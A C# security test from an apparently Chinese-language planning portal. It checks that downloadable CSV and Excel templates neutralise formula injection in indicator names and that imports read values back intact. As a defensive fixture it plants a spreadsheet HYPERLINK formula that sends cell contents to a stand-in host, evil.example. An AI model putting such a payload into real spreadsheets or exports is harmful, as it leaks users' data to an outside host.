using System.Net;
using System.Net.Http.Headers;
using System.Text;
using Dapper;
using Lantu.Application.Exchange;
using Lantu.Tests.Web;

namespace Lantu.Tests.Security;

/// <summary>Issue 17 item 4: indicator names come from uploaded documents; the data-entry template (CSV and .xlsx)
/// must not carry them as live formulas, and a filled template must read them (and negative numbers) back.</summary>
public sealed class TemplateFormulaTests : IAsyncLifetime
{
    private StaffHost _h = null!;
    public async Task InitializeAsync() => _h = await StaffHost.Start();
    public async Task DisposeAsync() => await _h.DisposeAsync();

    private const string Hostile = "=HYPERLINK(\"http://evil.example/?\"&A1,\"单位 GDP 能耗降幅\")";
    private const string HostileUnit = "@SUM(1+1)";

    /// <summary>Gives the indicator 单位 GDP 能耗降幅 of plan 3 a formula for a name and unit, as a hostile document would.</summary>
    private string Plant()
    {
        using var c = _h.Db.Connect();
        var key = c.ExecuteScalar<string>("""
            SELECT i.indicator_key FROM indicators i JOIN plans p ON p.current_version_id = i.version_id
            WHERE p.id = 3 AND i.name = '单位 GDP 能耗降幅' LIMIT 1
            """)!;
        c.Execute("UPDATE indicators SET name = @Hostile, unit = @HostileUnit WHERE indicator_key = @key", new { Hostile, HostileUnit, key });
        return key;
    }

    [Fact]
    public async Task Csv_and_xlsx_templates_neutralise_formula_cells_and_import_reads_them_back()
    {
        var key = Plant();
        var admin = await _h.SignedIn(PortalHost.AdminUser);
        var csvBytes = await admin.GetByteArrayAsync("/staff/import?handler=template&plan=3&format=csv");
        var csvText = Encoding.UTF8.GetString(csvBytes);
        Assert.Contains("\"'=HYPERLINK(", csvText);
        Assert.Contains(",'@SUM(1+1),", csvText);
        foreach (var line in csvText.Split("\r\n").Select(l => l.TrimStart('\uFEFF')))
            foreach (var cell in line.Split(','))
                Assert.False(cell.Length > 0 && "=+@\t\r".Contains(cell.TrimStart('"')[0]), $"live formula cell: {cell}");

        var xlsx = await admin.GetByteArrayAsync("/staff/import?handler=template&plan=3&format=xlsx");
        using (var zip = new System.IO.Compression.ZipArchive(new MemoryStream(xlsx)))
        {
            var sheet = new StreamReader(zip.Entries.Single(e => e.FullName.Contains("worksheets")).Open()).ReadToEnd();
            Assert.Contains("<x:t>'=HYPERLINK(", sheet.Replace("<t>", "<x:t>"));
            Assert.DoesNotContain("<x:f>", sheet);
        }

        // Read back: the name and unit as they were; a negative value imports as a number.
        var rows = TemplateFile.Read(csvBytes, "t.csv");
        var row = rows.Single(r => r[1] == Hostile).ToArray();
        Assert.Equal(HostileUnit, row[2]);
        Assert.Equal(rows.Single(r => r[1] == Hostile), TemplateFile.Read(xlsx, "t.xlsx").Single(r => r[1] == Hostile));
        row[5] = "-3.5"; // 2023
        var filled = Encoding.UTF8.GetBytes(string.Join("\r\n", new[] { rows[0], row }.Select(r => string.Join(",", r.Select(c => "\"" + c.Replace("\"", "\"\"") + "\"")))));
        var form = new MultipartFormDataContent
        {
            { new StringContent(await StaffHost.Token(admin, "/staff/import?plan=3")), "__RequestVerificationToken" },
            { new StringContent("3"), "plan" },
        };
        var file = new ByteArrayContent(filled);
        file.Headers.ContentType = new MediaTypeHeaderValue("text/csv");
        form.Add(file, "file", "filled.csv");
        var response = await admin.PostAsync("/staff/import", form);
        var html = await response.Content.ReadAsStringAsync();
        Assert.True(response.StatusCode == HttpStatusCode.OK, html);
        Assert.Equal(1, _h.Count("observations", $"plan_id = 3 AND indicator_key = '{key}' AND year = 2023 AND value = -3.5"));
    }
}
